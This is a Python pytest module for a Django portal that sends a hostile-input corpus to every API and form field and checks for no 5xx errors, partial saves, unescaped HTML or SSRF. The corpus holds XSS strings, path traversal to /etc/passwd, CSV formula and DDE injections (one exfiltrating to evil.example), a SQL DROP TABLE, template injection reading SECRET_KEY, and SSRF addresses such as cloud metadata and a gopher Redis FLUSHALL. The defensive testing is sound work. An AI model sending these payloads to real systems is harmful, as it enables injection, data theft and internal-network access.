"""The hostile-input corpus (issue 14, abuse suite), sent to every API field and every form field, through the
generated table of tests/input/test_bad_input.py (the API's fields from its OpenAPI schema, the pages' fields from
the forms they render): unicode edge cases, NUL bytes, HTML and script, ``javascript:`` and ``data:`` URLs, path
traversal, CSV formulas, and SSRF addresses (IPv6-mapped, decimal, octal, hex, short forms, metadata services).

For every (endpoint, field, value): never a 5xx; a refusal saves nothing; a value echoed back in the page or the
JSON is never raw HTML. URL fields (a model's base URL) must refuse every internal address and every scheme that is
not http(s), naming the field. Oversized bodies, malformed and deeply nested JSON, wrong types and NUL bytes in
every field are tests/input/test_bad_input.py's table; uploads with a traversing file name are below. Both suites find
the fields and send through one helper, tests/support/bad_input.py. What a saved hostile value looks like when the
portal shows it again (pages, API, CSV, PDF): test_rerendering.py."""

from __future__ import annotations

from typing import Any

import pytest
from django.db import transaction

from tests.permissions.test_matrix import world  # noqa: F401 - world is the shared fixture
from tests.support.bad_input import (
    API_OPERATIONS,
    PAGE_IDS,
    PAGE_ROWS,
    THIRD_PARTY_PAGES,
    Bad,
    Outcome,
    api_target,
    assert_case_count,
    check_fields,
    field_kind,
    page_form_targets,
    rendered,
    send_all_at_once,
    use_actor,
)

SUITE = "hostile"
# Cases (requests) the module sent when its senders were merged with the bad-value table's (issue 14): the count
# must not drop (lower it only with the field or form that went). Printed by the last test.
CASE_FLOOR = 1220

SCRIPT = "<script>alert('xss')</script>"
IMG = "\"><img src=x onerror=alert(1)>"

TEXT_CORPUS = [
    Bad("right-to-left override", "invoice\u202egpj.exe", False),
    Bad("zero-width and BOM", "\ufeffad\u200bmin\u200d", False),
    Bad("combining marks", "Z\u0351\u0352\u0353a\u0354\u0355l\u0356\u0357g\u0358o" * 20, False),
    Bad("astral plane", "\U0001d518\U0001d52b\U0001d526\U0001f4a9", False),
    Bad("fullwidth script", "\uff1cscript\uff1e", False),
    Bad("NUL in the middle", "fine\x00then", True),
    Bad("HTML script", SCRIPT, False),
    Bad("HTML attribute break-out", IMG, False),
    Bad("javascript: URL", "javascript:alert(document.cookie)", False),
    Bad("data: URL", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", False),
    Bad("path traversal", "../../../../etc/passwd", False),
    Bad("windows path traversal", "..\\..\\..\\windows\\win.ini", False),
    Bad("CSV formula", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", False),
    Bad("CSV DDE", "+cmd|' /C calc'!A0", False),
    Bad("CSV at-formula", "@SUM(1+1)*cmd|' /C calc'!A0", False),
    Bad("SQL", "'; DROP TABLE accounts_user; --", False),
    Bad("template syntax", "{{ settings.SECRET_KEY }}{% debug %}", False),
]
JSON_ONLY = [Bad("lone surrogate", "\ud800", True)]  # json.dumps escapes it: refused like a NUL (portal/parsers.py)

SSRF = [
    "http://127.0.0.1:8000/", "http://localhost/", "http://[::1]/", "http://[::ffff:127.0.0.1]/",
    "http://[::ffff:7f00:1]/", "http://2130706433/", "http://0177.0.0.1/", "http://0x7f.0.0.1/", "http://127.1/",
    "http://0/", "http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/", "http://10.0.0.1/",
    "http://192.168.1.1/", "http://[::ffff:169.254.169.254]/", "http://017700000001/", "http://0x7f000001/",
    "http://metadata.google.internal/",
]
URL_CORPUS = [Bad(f"SSRF {url}", url, True) for url in SSRF] + [
    Bad("javascript: URL", "javascript:alert(1)", True),
    Bad("data: URL", "data:text/plain,hello", True),
    Bad("file: URL", "file:///etc/passwd", True),
    Bad("gopher: URL", "gopher://127.0.0.1:6379/_FLUSHALL", True),
    Bad("credentials in the URL", "http://user:pass@127.0.0.1/", True),
]


def _is_url_field(name: str, node: dict[str, Any] | None = None) -> bool:
    return "url" in name.lower() or (node or {}).get("format") == "uri"


def _raw_html_echo(response: Any) -> bool:
    """The payload came back as live HTML (in a page) or unescaped in an HTML response."""
    if "html" not in response.get("Content-Type", ""):
        return False
    body = response.content.decode("utf-8", "replace")
    return SCRIPT in body or "<img src=x onerror" in body


def _with_echo_check(outcome: Outcome, where: str, send_body: Any) -> Any:
    def send(body: dict[str, Any]) -> Any:
        response = send_body(body)
        if _raw_html_echo(response):
            outcome.failures.append(f"{where}: the page shows the HTML payload unescaped")
        return response
    return send


def check_corpus(outcome: Outcome, where: str, fields: dict[str, list[Bad]], base: dict[str, Any],
                 send_body: Any) -> None:
    """The values every field must refuse (NUL, internal URLs) through the bad-value table's checker (refused, the
    field named, nothing saved); the others (which a field may accept: text is text) one request per value with
    every field set to it: no 5xx, nothing saved when refused, never echoed as live HTML."""
    send = _with_echo_check(outcome, where, send_body)
    check_fields(outcome, where, {n: [b for b in bads if b.must_refuse] for n, bads in fields.items()}, base, send)
    send_all_at_once(outcome, where, fields, base, send)


@pytest.mark.django_db
@pytest.mark.parametrize("operation", API_OPERATIONS, ids=[op.id for op in API_OPERATIONS])
def test_api_fields_take_the_hostile_corpus_without_5xx_partial_save_or_ssrf(world: Any, operation: Any) -> None:  # noqa: F811
    RAN.add(f"api {operation.id}")
    fields: dict[str, list[Bad]] = {}
    for name, node in operation.properties.items():
        if node.get("format") == "binary":
            continue  # a file part: the uploads below
        if node["_type"] in ("string", "any"):
            corpus = TEXT_CORPUS + (JSON_ONLY if operation.content_type == "application/json" else [])
            fields[name] = URL_CORPUS + corpus if _is_url_field(name, node) else corpus
        elif node["_type"] == "array":
            fields[name] = [Bad(f"list of {bad.label}", [bad.value], False) for bad in TEXT_CORPUS[:8]]
    if not fields:
        pytest.skip("no free-text field")
    target = api_target(world, operation)
    outcome = Outcome(SUITE)
    check_corpus(outcome, target.where, fields, target.base, target.send_body)
    assert outcome.cases
    outcome.assert_clean()


_CHECKED: set[tuple[str, tuple[str, ...]]] = set()


@pytest.mark.django_db
@pytest.mark.parametrize("row", PAGE_ROWS, ids=PAGE_IDS)
def test_page_forms_take_the_hostile_corpus_without_5xx_partial_save_or_ssrf(world: Any, row: Any) -> None:  # noqa: F811
    RAN.add(f"page {row.route} {id(row)}")
    ctx, cookies, client = world
    page = rendered(client, cookies, ctx, row)
    if page.status != 200 or not page.html:
        pytest.skip("not an HTML page")
    outcome = Outcome(SUITE)
    for form in page_form_targets(world, row, _CHECKED):
        fields: dict[str, list[Bad]] = {}
        for name in form.form.names:
            if name == "csrfmiddlewaretoken" or name in form.form.files:
                continue
            if field_kind(form.page.fields.get(name)) != "text":
                continue  # numbers, choices, dates: the bad-value table's types
            corpus = TEXT_CORPUS
            if row.route.startswith(THIRD_PARTY_PAGES):
                # allauth's sign-in, password and code forms: every wrong attempt counts against the account's rate
                # limit, so only a few values there (a wrong password is a wrong password).
                corpus = [b if b.label == "NUL in the middle" else Bad(b.label, b.value, False) for b in corpus
                          if b.label in ("NUL in the middle", "HTML script", "right-to-left override")]
            fields[name] = URL_CORPUS + corpus if _is_url_field(name) else corpus
        if fields:
            check_corpus(outcome, form.where, fields, form.base, form.send_body)
    outcome.assert_clean()


# --- Uploads whose file name climbs out of the storage -----------------------------------------------------------

TRAVERSING_NAMES = ["../../../../../tmp/portal-traversal-test.csv", "..\\..\\..\\portal-traversal-test.csv",
                    "/etc/cron.d/portal-traversal-test.csv", "dataset.csv\x00.exe", "%2e%2e%2fportal-traversal.csv"]


@pytest.mark.django_db
@pytest.mark.parametrize("name", TRAVERSING_NAMES)
def test_an_upload_with_a_traversing_file_name_stays_inside_the_storage(world: Any, name: str, tmp_path: Any) -> None:  # noqa: F811
    from django.conf import settings
    from django.core.files.uploadedfile import SimpleUploadedFile

    ctx, cookies, client = world
    use_actor(client, cookies, "uk_staff")
    media = str(settings.MEDIA_ROOT)
    content = b"input,target\n1 + 1,2\n"
    uploads = [
        ("/api/v1/tasks/", {"exercises": [ctx.exercise.pk], "name": "Traversal", "solver": "generate",
                            "scorer": "includes", "dataset": SimpleUploadedFile(name, content, "text/csv")}),
        ("/api/v1/runs/import/", {"exercise": ctx.exercise.pk,
                                  "file": SimpleUploadedFile(name.replace(".csv", ".eval"), b"PK\x03\x04 not a log")}),
    ]
    for path, data in uploads:
        savepoint = transaction.savepoint()
        try:
            response = client.post(path, data, HTTP_ACCEPT="application/json")
            assert response.status_code < 500, (path, response.status_code, response.content[:300])
            from evaluations.models import TaskVersion

            for stored in TaskVersion.objects.exclude(dataset_file="").values_list("dataset_file", flat=True):
                assert ".." not in stored and not stored.startswith(("/", "\\")) and "\x00" not in stored, stored
        finally:
            transaction.savepoint_rollback(savepoint)
    for outside in ("/tmp/portal-traversal-test.csv", "/etc/cron.d/portal-traversal-test.csv"):
        import os

        assert not os.path.exists(outside), outside
    assert media  # every stored file went under MEDIA_ROOT (names above), nothing outside it


RAN: set[str] = set()  # the corpus's API and page tests that ran in this process


def test_the_corpus_sent_as_many_cases_as_before() -> None:
    """Last in the module: the count of cases sent (printed) has not dropped since the senders were merged."""
    assert_case_count(SUITE, CASE_FLOOR, len(RAN), len(API_OPERATIONS) + len(PAGE_ROWS))
